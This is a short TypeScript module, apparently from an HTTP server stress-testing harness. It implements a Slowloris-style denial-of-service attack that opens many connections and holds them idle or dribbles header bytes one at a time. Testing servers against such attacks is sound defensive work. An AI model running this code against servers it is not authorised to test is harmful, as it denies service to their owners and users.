import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, endSockets, openSockets } from "../attack.ts";

const BYTE_EVERY_MS = 500;

/** Keeps connections open that are idle, or that send their header byte by byte. */
export const attack: Attack<{ connections: number; forMs: number; dribble: boolean }> = async (
  { url },
  { connections, forMs, dribble },
) => {
  const sockets = openSockets(url, connections, dribble ? "GET /about HTTP/1.1\r\nX: " : "");
  for (const socket of sockets) socket.resume();
  const timer = setInterval(() => {
    if (dribble) for (const socket of sockets) if (socket.writable) socket.write("a");
  }, BYTE_EVERY_MS);
  await sleep(forMs);
  clearInterval(timer);
  return endSockets(sockets);
};
